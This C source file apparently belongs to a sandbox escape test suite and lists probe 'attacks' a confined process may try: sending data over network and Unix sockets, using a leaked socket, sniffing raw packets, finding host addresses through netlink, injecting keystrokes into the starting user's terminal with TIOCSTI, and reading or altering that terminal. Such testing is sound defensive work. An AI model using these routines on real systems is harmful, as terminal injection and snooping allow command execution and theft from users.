/* Attacks by sockets, and by the terminal. */
#define _GNU_SOURCE
#include "attack.h"
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <termios.h>

static int say(int fd, const struct sockaddr *to, socklen_t len, const char *word) {
    if (fd < 0 || connect(fd, to, len) != 0 || write(fd, word, strlen(word)) < 0) return 1;
    return 0;
}

/* inet KIND ADDRESS PORT WORD */
static int inet(int argc, char **argv) {
    int kind = strcmp(argv[1], "udp") == 0 ? SOCK_DGRAM : SOCK_STREAM;
    if (strchr(argv[2], ':')) {
        struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(argv[3]))};
        inet_pton(AF_INET6, argv[2], &to.sin6_addr);
        return say(socket(AF_INET6, kind, 0), (struct sockaddr *)&to, sizeof to, argv[4]);
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
    inet_pton(AF_INET, argv[2], &to.sin_addr);
    return say(socket(AF_INET, kind, 0), (struct sockaddr *)&to, sizeof to, argv[4]);
}

/* A path, or a name that begins with @. */
static socklen_t name(struct sockaddr_un *to, const char *text) {
    size_t len = strlen(text);
    memset(to, 0, sizeof *to);
    to->sun_family = AF_UNIX;
    memcpy(to->sun_path, text, len);
    if (*text != '@') return sizeof *to;
    to->sun_path[0] = 0;
    return offsetof(struct sockaddr_un, sun_path) + len;
}

/* unix KIND PLACE WORD */
static int unix_socket(int argc, char **argv) {
    struct sockaddr_un to;
    socklen_t len = name(&to, argv[2]);
    int kind = strcmp(argv[1], "dgram") == 0 ? SOCK_DGRAM : SOCK_STREAM;
    return say(socket(AF_UNIX, kind, 0), (struct sockaddr *)&to, len, argv[3]);
}

/* pair PLACE WORD: one of a pair of connected sockets is sent elsewhere. */
static int pair(int argc, char **argv) {
    struct sockaddr_un to;
    socklen_t len = name(&to, argv[1]);
    int both[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, both) != 0) return 1;
    return sendto(both[0], argv[2], strlen(argv[2]), 0, (struct sockaddr *)&to, len) < 0;
}

static int leaked_socket(int argc, char **argv) {
    return send(LEAKED_SOCKET, argv[1], strlen(argv[1]), MSG_NOSIGNAL) < 0;
}

/* Shows all that passes for a second. */
static int listen_to(int fd) {
    struct timeval limit = {.tv_usec = 200000};
    char text[2048];
    if (fd < 0) return 1;
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    for (int i = 0; i < 40; i++) {
        ssize_t len = recv(fd, text, sizeof text, 0);
        if (len < 0) break;
        for (ssize_t at = 0; at < len; at++)
            if (text[at] >= ' ' && text[at] < 127) putchar(text[at]);
        putchar('\n');
    }
    return 0;
}

static int packet(int argc, char **argv) {
    return listen_to(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
}

static int raw(int argc, char **argv) {
    return listen_to(socket(AF_INET, SOCK_RAW, IPPROTO_UDP));
}

/* The addresses of the host. */
static int route(int argc, char **argv) {
    struct {
        struct nlmsghdr head;
        struct ifaddrmsg body;
    } ask = {{.nlmsg_len = sizeof ask, .nlmsg_type = RTM_GETADDR, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
             {.ifa_family = AF_INET}};
    char answer[8192];
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    if (fd < 0 || send(fd, &ask, sizeof ask, 0) < 0) return 1;
    ssize_t len = recv(fd, answer, sizeof answer, 0);
    struct in_addr wanted;
    inet_pton(AF_INET, HOST_ADDRESS, &wanted);
    for (ssize_t at = 0; at + 4 <= len; at++)
        if (memcmp(answer + at, &wanted, 4) == 0) return proof();
    return 1;
}

/* tiocsti WORD: types on the terminal of whoever started the box. */
static int tiocsti(int argc, char **argv) {
    int fd = open("/dev/tty", O_RDWR);
    if (fd < 0) return 1;
    for (const char *key = argv[1]; *key; key++)
        if (ioctl(fd, TIOCSTI, key) != 0) return 1;
    return ioctl(fd, TIOCSTI, "\n") != 0;
}

/* Reads what is typed there. */
static int tty_read(int argc, char **argv) {
    char text[256];
    int fd = open("/dev/tty", O_RDONLY);
    ssize_t len = fd < 0 ? -1 : read(fd, text, sizeof text);
    return len <= 0 || write(1, text, len) != len;
}

/* Sets its speed, which nobody else does. */
static int tty_set(int argc, char **argv) {
    struct termios is;
    int fd = open("/dev/tty", O_RDWR);
    if (fd < 0 || tcgetattr(fd, &is) != 0) return 1;
    cfsetspeed(&is, B1200);
    return tcsetattr(fd, TCSANOW, &is) != 0;
}

const struct attack network_attacks[] = {
    {"inet", inet},     {"unix", unix_socket}, {"pair", pair},       {"leaked-socket", leaked_socket}, {"packet", packet},
    {"raw", raw},       {"route", route},      {"tiocsti", tiocsti}, {"tty-read", tty_read},           {"tty-set", tty_set},
    {NULL, NULL},
};
